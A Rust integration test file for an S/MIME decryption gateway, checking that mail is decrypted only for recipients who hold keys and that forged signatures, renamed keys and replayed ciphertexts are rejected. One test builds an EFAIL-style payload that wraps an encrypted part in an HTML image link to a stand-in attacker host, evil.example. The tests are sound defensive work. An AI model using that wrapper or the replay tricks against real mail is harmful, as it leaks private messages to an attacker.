//! Mail that is opened for the people whose keys are here, and for nobody else (DEC-02, DEC-08 to DEC-11): each test sends it
//! through the real program to a sink, and looks at who got what.

use std::time::Duration;

use kenin_tests::client::{Client, Envelope, Reply, stuffed};
use kenin_tests::forge::enveloped::{Parts, Way, encrypted, fields, mail, shows};
use kenin_tests::forge::{Town, cms, mime};
use kenin_tests::kenin::Gateway;
use kenin_tests::opened::{
    BOB, CAROL, MALLORY, People, import, is_as_it_came, of, setup, started, states, text, to_bob,
    told, used, write_secrets,
};
use kenin_tests::sink::{Behaviour, Received, Sink, split};

const CANARY: &str = "the canary sings in the coal mine";
const SENDER: &str = "alice@example.jp";

fn send(gateway: &Gateway, to: &[&str], raw: &[u8]) -> Reply {
    let envelope = Envelope {
        to: to.iter().map(|to| (*to).to_owned()).collect(),
        ..Envelope::new(SENDER, BOB)
    };
    gateway.send(&envelope, raw)
}

/// Sends it to these, and says what arrived; the client hears what it always hears.
fn arrived(gateway: &Gateway, sink: &Sink, to: &[&str], raw: &[u8]) -> Vec<Received> {
    sink.clear();
    let reply = send(gateway, to, raw);
    assert_eq!(reply.text(), "250 2.0.0 Accepted", "{}", gateway.log());
    sink.mails()
}

#[test]
fn a_mail_is_opened_judged_and_stamped() {
    let sink = Sink::start();
    let gateway = started(&setup(sink.address));
    let town = Town::get();
    let part = text(CANARY);
    let cms = cms::detached(&town.alice, &town.chain(), &part);
    let entity = mime::signed_entity(mime::BOUNDARY, &part, &cms);
    for (way, integrity) in [(Way::Gcm, "aead"), (Way::Cbc, "signature")] {
        let raw = to_bob(way, SENDER, "signed@example.jp", &entity);
        let mails = arrived(&gateway, &sink, &[BOB], &raw);
        let got = of(&mails, BOB);
        // The signed octets are as they were.
        assert_eq!(got.split().1, split(&entity).1);
        assert!(got.fields("Content-Type")[0].starts_with("multipart/signed"));
        assert_eq!(got.fields("Subject"), ["Outside"]);
        let stamp = got.fields("Authentication-Results").concat();
        assert!(stamp.contains("smime=pass"), "{stamp}");
        let said = format!("opened; integrity={integrity}; sender=proven");
        assert_eq!(got.fields("X-Kenin-Decryption"), [said]);
        // DEC-12: what comes back goes to nobody outside.
        assert!(got.mail.starts_with("MAIL FROM:<>"), "{}", got.mail);
    }
    // Nobody signed this one.
    let raw = to_bob(Way::Gcm, SENDER, "unsigned@example.jp", &text(CANARY));
    let mails = arrived(&gateway, &sink, &[BOB], &raw);
    let got = of(&mails, BOB);
    assert!(shows(&got.raw, CANARY));
    assert!(
        got.fields("Authentication-Results")
            .concat()
            .contains("smime=none")
    );
    let said_of_it = ["opened; integrity=aead; sender=not-proven"];
    assert_eq!(got.fields("X-Kenin-Decryption"), said_of_it);
    assert_eq!(states(&gateway, "opened"), 3);
    told(&gateway, "\"decryption\":\"opened\"", 3);
    used(&gateway, 3);
    assert!(!shows(gateway.log().as_bytes(), CANARY));
}

#[test]
fn whoever_is_not_trusted_vouches_for_nothing_inside_either() {
    let sink = Sink::start();
    let gateway = started(&setup(sink.address));
    let town = Town::get();
    let part = text(CANARY);
    for (signer, sender) in [(&town.strange_alice, SENDER), (&town.bob, SENDER)] {
        let cms = cms::detached(signer, &town.chain(), &part);
        let entity = mime::signed_entity(mime::BOUNDARY, &part, &cms);
        let raw = to_bob(Way::Gcm, sender, "forged@example.jp", &entity);
        let mails = arrived(&gateway, &sink, &[BOB], &raw);
        let got = of(&mails, BOB);
        let stamp = got.fields("Authentication-Results").concat();
        assert!(
            stamp.contains("smime=") && !stamp.contains("smime=pass"),
            "{stamp}"
        );
        let said = got.fields("X-Kenin-Decryption").concat();
        assert!(said.ends_with("sender=not-proven"), "{said}");
    }
}

/// What is signed outside is not signed inside: the signature around it may be anybody's.
#[test]
fn a_signature_around_it_vouches_for_nothing_inside() {
    let sink = Sink::start();
    let gateway = started(&setup(sink.address));
    let town = Town::get();
    let object = encrypted(Way::Gcm, &[&People::get().bob], &text(CANARY));
    let inner = mime::opaque_entity("authEnveloped-data", &object);
    let cms = cms::opaque(&town.mallory, &town.chain(), &inner);
    let header = fields("mallory@evil.example", "around@evil.example");
    let raw = mime::opaque(&header, "signed-data", &cms);
    let mails = arrived(&gateway, &sink, &[BOB], &raw);
    let got = of(&mails, BOB);
    assert!(shows(&got.raw, CANARY));
    let stamp = got.fields("Authentication-Results").concat();
    assert!(!stamp.contains("smime=pass"), "{stamp}");
}

/// Signed, encrypted, and encrypted once more.
#[test]
fn layers_are_opened_one_after_the_other() {
    let sink = Sink::start();
    let gateway = started(&setup(sink.address));
    let bob = &People::get().bob;
    let inner = encrypted(Way::Gcm, &[bob], &text(CANARY));
    let inner = mime::opaque_entity("authEnveloped-data", &inner);
    let raw = to_bob(Way::Cbc, SENDER, "twice@example.jp", &inner);
    let mails = arrived(&gateway, &sink, &[BOB], &raw);
    assert!(shows(&of(&mails, BOB).raw, CANARY));
    used(&gateway, 2);
}

#[test]
fn a_header_that_was_protected_takes_the_place_of_the_one_outside() {
    let sink = Sink::start();
    let gateway = started(&setup(sink.address));
    let entity = format!(
        "Subject: Inside\r\nFrom: {SENDER}\r\nMessage-ID: <hidden@example.jp>\r\n\
         Content-Type: text/plain; charset=utf-8; hp=\"cipher\"\r\n\r\n{CANARY}\r\n"
    );
    let raw = to_bob(Way::Gcm, SENDER, "hidden@example.jp", entity.as_bytes());
    let mails = arrived(&gateway, &sink, &[BOB], &raw);
    let got = of(&mails, BOB);
    assert_eq!(got.fields("Subject"), ["Inside"]);
    // One who is not outside is not taken for who wrote it.
    let forged = entity.replace(SENDER, "ceo@example.jp");
    let raw = to_bob(Way::Gcm, SENDER, "ceo@example.jp", forged.as_bytes());
    let mails = arrived(&gateway, &sink, &[BOB], &raw);
    assert_eq!(of(&mails, BOB).fields("From"), [SENDER]);
}

/// DEC-02: an encrypted part between two that carry it away.
#[test]
fn dec_02_what_is_encrypted_in_part_stays_as_it_is() {
    let sink = Sink::start();
    let gateway = started(&setup(sink.address));
    let object = encrypted(Way::Cbc, &[&People::get().bob], &text(CANARY));
    let part = mime::opaque_entity("enveloped-data", &object);
    let before = b"Content-Type: text/html\r\n\r\n<img src=\"http://evil.example/";
    let after = b"Content-Type: text/html\r\n\r\n\">";
    let header = fields("mallory@evil.example", "efail@evil.example");
    let mixed = mime::mixed(&header, "mixed", &[before, &part, after]);
    let wrapped = [&b"Content-Type: message/rfc822\r\n\r\n"[..], &mixed].concat();
    for raw in [mixed.clone(), [header, wrapped].concat()] {
        sink.clear();
        assert_eq!(send(&gateway, &[BOB], &raw).code, 250);
        let mails = sink.mails();
        assert!(of(&mails, BOB).raw.ends_with(&raw), "byte for byte");
        assert!(of(&mails, BOB).fields("X-Kenin-Decryption").is_empty());
    }
    assert!(states(&gateway, "not-root") > 0);
    used(&gateway, 0);
}

/// DEC-08: Bob's mail, captured and sent to Mallory, who has a key in the same house.
#[test]
fn dec_08_nobody_gets_anothers_mail_opened() {
    let sink = Sink::start();
    let gateway = started(&setup(sink.address));
    let raw = to_bob(Way::Gcm, SENDER, "captured@example.jp", &text(CANARY));
    let from_mallory = String::from_utf8(raw.clone()).unwrap();
    let from_mallory = from_mallory.replace(SENDER, MALLORY).into_bytes();
    for raw in [&raw, &from_mallory] {
        sink.clear();
        assert_eq!(send(&gateway, &[MALLORY], raw).code, 250);
        let mails = sink.mails();
        assert!(of(&mails, MALLORY).raw.ends_with(raw));
    }
    told(&gateway, "\"decryption\":\"not-recipient\"", 2);
    // No key was tried.
    used(&gateway, 0);
    // And it was not in vain: Bob reads it.
    let mails = arrived(&gateway, &sink, &[BOB], &raw);
    assert!(shows(&of(&mails, BOB).raw, CANARY));
    used(&gateway, 1);
}

/// DEC-08: the same with the name of Mallory's own certificate in place of Bob's.
#[test]
fn dec_08_a_key_that_is_named_falsely_opens_nothing() {
    let sink = Sink::start();
    let gateway = started(&setup(sink.address));
    let people = People::get();
    let bobs = Parts::of(&encrypted(Way::Gcm, &[&people.bob], &text(CANARY)));
    let own = Parts::of(&encrypted(Way::Gcm, &[&people.mallory], b"x"));
    let name = kenin_tests::forge::der::elements(&own.recipients[0])[1].to_vec();
    let mut renamed = bobs.clone();
    let info = kenin_tests::forge::der::elements(&bobs.recipients[0]);
    renamed.recipients[0] = kenin_tests::forge::der::seq([info[0], &name, info[2], info[3]]);
    let raw = mail(&fields(MALLORY, "renamed@x"), &renamed.object());
    let mails = arrived(&gateway, &sink, &[MALLORY], &raw);
    assert!(is_as_it_came(of(&mails, MALLORY), &raw));
}

/// DEC-09: one transaction for both.
#[test]
fn dec_09_each_recipient_gets_their_own_outcome() {
    let sink = Sink::start();
    let gateway = started(&setup(sink.address));
    let raw = to_bob(Way::Gcm, SENDER, "both@example.jp", &text(CANARY));
    let stranger = "stranger@elsewhere.example";
    let mails = arrived(&gateway, &sink, &[MALLORY, BOB, stranger], &raw);
    let opened = mails.iter().filter(|mail| shows(&mail.raw, CANARY));
    let opened: Vec<_> = opened.map(|mail| mail.recipients.len()).collect();
    assert_eq!(opened, [1], "one copy, for one recipient");
    assert!(shows(&of(&mails, BOB).raw, CANARY));
    for other in [MALLORY, stranger] {
        assert!(of(&mails, other).raw.ends_with(&raw));
    }
    // Two whose keys both open it share what they get.
    let people = People::get();
    let object = encrypted(Way::Gcm, &[&people.bob, &people.carol], &text(CANARY));
    let raw = mail(&fields(SENDER, "three@example.jp"), &object);
    let mails = arrived(&gateway, &sink, &[CAROL, MALLORY, BOB], &raw);
    for (recipient, opened) in [(BOB, true), (CAROL, true), (MALLORY, false)] {
        assert_eq!(
            shows(&of(&mails, recipient).raw, CANARY),
            opened,
            "{recipient}"
        );
    }
}

/// DEC-10: only addresses that were granted have the key.
#[test]
fn dec_10_an_alias_has_no_key_unless_it_is_granted() {
    let sink = Sink::start();
    let mut gateway = Gateway::prepare(&setup(sink.address));
    write_secrets(&gateway);
    import(&gateway, &People::get().bob, &[BOB, "sales@opened.example"]);
    gateway.restart();
    let raw = to_bob(Way::Gcm, SENDER, "alias@example.jp", &text(CANARY));
    for (recipient, opened) in [
        (BOB, true),
        ("sales@opened.example", true),
        ("bob+tag@opened.example", false),
        ("robert@opened.example", false),
        ("list@opened.example", false),
        ("bob@elsewhere.example", false),
    ] {
        sink.clear();
        assert_eq!(send(&gateway, &[recipient], &raw).code, 250);
        let mails = sink.mails();
        let got = of(&mails, recipient);
        assert_eq!(shows(&got.raw, CANARY), opened, "{recipient}");
        assert_eq!(got.raw.ends_with(&raw), !opened, "{recipient}");
    }
    used(&gateway, 2);
}

/// DEC-11: what Bob got once comes again, from somebody who wants to read it in his answer.
#[test]
fn dec_11_a_ciphertext_that_came_before_stays_closed() {
    let sink = Sink::start();
    let mut gateway = started(&setup(sink.address));
    let object = encrypted(Way::Gcm, &[&People::get().bob], &text(CANARY));
    let first = mail(&fields(SENDER, "first@example.jp"), &object);
    let again = mail(
        &fields("mallory@evil.example", "again@evil.example"),
        &object,
    );
    let answered = [&b"Reply-To: mallory@evil.example\r\n"[..], &first].concat();
    // The same octets in a layer of Mallory's own making, with her words around it.
    let parts = mime::mixed(
        b"",
        "mixed",
        &[
            &mime::text("Please answer"),
            &mime::opaque_entity("authEnveloped-data", &object),
        ],
    );
    let inner = mime::opaque_entity("authEnveloped-data", &object);
    let wrapped = encrypted(Way::Gcm, &[&People::get().bob], &inner);
    let wrapped = mail(
        &fields("mallory@evil.example", "wrapped@evil.example"),
        &wrapped,
    );
    let beside = encrypted(Way::Gcm, &[&People::get().bob], &parts);
    let beside = mail(
        &fields("mallory@evil.example", "beside@evil.example"),
        &beside,
    );
    let opens = |gateway: &Gateway, raw: &[u8]| {
        let mails = arrived(gateway, &sink, &[BOB], raw);
        shows(&of(&mails, BOB).raw, CANARY)
    };
    assert!(opens(&gateway, &first));
    assert!(opens(&gateway, &first), "a mail may come twice");
    for raw in [&again, &answered, &wrapped, &beside] {
        assert!(!opens(&gateway, raw));
    }
    // It is remembered over a restart, and the first one still opens.
    gateway.kill();
    gateway.restart();
    assert!(!opens(&gateway, &again));
    assert!(opens(&gateway, &first));
    let replayed = "\"decryption\":\"replayed-ciphertext\"";
    told(&gateway, replayed, 4);
}

/// LMTP: an answer for each recipient, whichever way it went for them.
#[test]
fn each_recipient_of_lmtp_is_answered_alike() {
    let sink = Sink::start();
    let mut setup = setup(sink.address);
    setup.mode = "lmtp";
    let gateway = started(&setup);
    let raw = to_bob(Way::Gcm, SENDER, "lmtp@example.jp", &text(CANARY));
    let mut client = Client::connect(gateway.address);
    assert_eq!(client.reply().unwrap().code, 220);
    assert_eq!(client.command("LHLO client.example").code, 250);
    assert_eq!(client.command(&format!("MAIL FROM:<{SENDER}>")).code, 250);
    for recipient in [BOB, MALLORY] {
        let reply = client.command(&format!("RCPT TO:<{recipient}>"));
        assert_eq!(reply.code, 250);
    }
    assert_eq!(client.command("DATA").code, 354);
    client.send(&stuffed(&raw));
    for _ in [BOB, MALLORY] {
        assert_eq!(client.reply().unwrap().code, 250);
    }
    let mails = sink.wait(2, Duration::from_secs(30));
    assert!(shows(&of(&mails, BOB).raw, CANARY));
    assert!(of(&mails, MALLORY).raw.ends_with(&raw));
}

#[test]
fn nothing_is_opened_where_a_rule_says_so_or_nothing_could_be_held() {
    let sink = Sink::start();
    let mut closed = setup(sink.address);
    closed.mail =
        format!("[[rule]]\nwhen = {{ recipient = \"{BOB}\" }}\nthen = {{ decrypt = false }}\n");
    let mut without = setup(sink.address);
    without.tables = "[keys]\nkey_file = \"kek\"\n".to_owned();
    for setup in [closed, without] {
        let gateway = started(&setup);
        let raw = to_bob(Way::Gcm, SENDER, "closed@example.jp", &text(CANARY));
        sink.clear();
        assert_eq!(send(&gateway, &[BOB], &raw).code, 250);
        assert!(of(&sink.mails(), BOB).raw.ends_with(&raw));
        used(&gateway, 0);
    }
}

/// RFC 8551 §3.1: how a header was protected before RFC 9788.
#[test]
fn a_signed_message_in_a_wrapper_brings_its_header() {
    let sink = Sink::start();
    let gateway = started(&setup(sink.address));
    let town = Town::get();
    let part = format!(
        "Content-Type: message/rfc822; forwarded=no\r\n\r\nFrom: {SENDER}\r\n\
         To: reader@opened.example\r\nDate: Fri, 01 May 2026 12:00:00 +0000\r\nSubject: Inside\r\n\
         Content-Type: text/plain\r\n\r\n{CANARY}\r\n"
    );
    let cms = cms::detached(&town.alice, &town.chain(), part.as_bytes());
    let entity = mime::signed_entity(mime::BOUNDARY, part.as_bytes(), &cms);
    let raw = to_bob(Way::Gcm, SENDER, "wrapper@example.jp", &entity);
    let mails = arrived(&gateway, &sink, &[BOB], &raw);
    let got = of(&mails, BOB);
    assert_eq!(got.fields("Subject"), ["Inside"]);
    let stamp = got.fields("Authentication-Results").concat();
    assert!(stamp.contains("smime=pass"), "{stamp}");
}

/// A next hop without 8BITMIME would refuse what nobody sent in 8 bits.
#[test]
fn what_the_next_hop_takes_in_seven_bits_only_goes_on_in_seven() {
    for takes_eight in [false, true] {
        let behaviour = match takes_eight {
            true => Behaviour::default(),
            false => Behaviour::default().without("8BITMIME"),
        };
        let sink = Sink::with(behaviour);
        let gateway = started(&setup(sink.address));
        let raw = to_bob(Way::Gcm, SENDER, "wide@example.jp", &text("検印"));
        let mails = arrived(&gateway, &sink, &[BOB], &raw);
        let got = of(&mails, BOB);
        assert_eq!(got.fields("Subject"), ["Outside"]);
        assert_eq!(got.raw.is_ascii(), !takes_eight);
        let encoded = got.fields("Content-Transfer-Encoding") == ["base64"];
        assert_eq!(encoded, !takes_eight);
    }
}
